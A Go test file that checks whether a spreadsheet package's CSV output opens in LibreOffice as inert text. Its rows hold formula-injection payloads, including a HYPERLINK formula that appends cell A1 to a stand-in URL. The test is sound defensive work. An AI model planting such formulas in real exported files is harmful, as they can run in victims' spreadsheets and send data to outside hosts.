package spreadsheet

import (
	"encoding/xml"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// LibreOffice shows the same cells and computes none of them, where it separates cells by
// commas and where it does so by semicolons.
func TestLibreOfficeReadsTheSameCells(t *testing.T) {
	program, err := exec.LookPath("soffice")
	if err != nil {
		t.Skip("LibreOffice is not installed: no program soffice")
	}
	rows := [][]string{
		{"name", "username", "message"},
		{"O'Brien, Ann", "ann.obrien", `the name has "quotes"`},
		{"مريم الفارسي", "maryam", "right to left"},
		{"Łukasz Żółć", "=1+1", "+1+1"},
		{"-1+1", "@SUM(1;1)", "＝1+1"},
		{"a;=1+1", " =1+1", "\"=1+1\""},
		{`=HYPERLINK("https://example.com/?"&A1,"click")`, "'=1+1", "a,=1+1"},
	}
	folder := t.TempDir()
	file := filepath.Join(folder, "results.csv")
	if err := os.WriteFile(file, []byte(written(t, rows...)), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, separator := range []string{"44", "59"} {
		got := opened(t, program, file, separator)
		for _, cell := range got.cells() {
			if cell.Formula != "" {
				t.Errorf("separator %s: LibreOffice computes %q, want text", separator, cell.Formula)
			}
		}
		if separator == "59" {
			continue // the cells are divided otherwise there
		}
		var want []string
		for _, row := range rows {
			for _, each := range row {
				want = append(want, strings.TrimSpace(guard(each)))
			}
		}
		var texts []string
		for _, cell := range got.cells() {
			texts = append(texts, strings.TrimSpace(strings.Join(cell.Lines, "\n")))
		}
		if diff := cmp.Diff(want, texts); diff != "" {
			t.Errorf("cells (-want +got):\n%s", diff)
		}
	}
}

// sheet is what the test reads of a document.
type sheet struct {
	Rows []struct {
		Cells []cell `xml:"table-cell"`
	} `xml:"body>spreadsheet>table>table-row"`
}

type cell struct {
	Formula string   `xml:"formula,attr"`
	Lines   []string `xml:"p"`
}

// cells are the cells in the order of reading, without those that fill a row up.
func (s sheet) cells() []cell {
	var all []cell
	for _, row := range s.Rows {
		for _, each := range row.Cells {
			if len(each.Lines) > 0 {
				all = append(all, each)
			}
		}
	}
	return all
}

// opened is the file as LibreOffice has it after opening. Token 13 of the filter lets it
// compute formulas, which it does not unless it is asked for (LibreOffice help, "Filter
// Options for CSV").
func opened(t *testing.T, program, file, separator string) (got sheet) {
	t.Helper()
	folder := t.TempDir()
	command := exec.CommandContext(t.Context(), program, "-env:UserInstallation=file://"+folder+"/profile", "--headless",
		"--infilter=Text - txt - csv (StarCalc):"+separator+",34,76,1,,0,false,false,false,false,false,0,true",
		"--convert-to", "fods", "--outdir", folder, file)
	if output, err := command.CombinedOutput(); err != nil {
		t.Fatalf("LibreOffice: %v\n%s", err, output)
	}
	document, err := os.Open(filepath.Join(folder, "results.fods"))
	if err != nil {
		t.Fatal(err)
	}
	defer document.Close()
	text, err := io.ReadAll(document)
	if err != nil {
		t.Fatal(err)
	}
	if err := xml.Unmarshal(text, &got); err != nil {
		t.Fatal(err)
	}
	return got
}
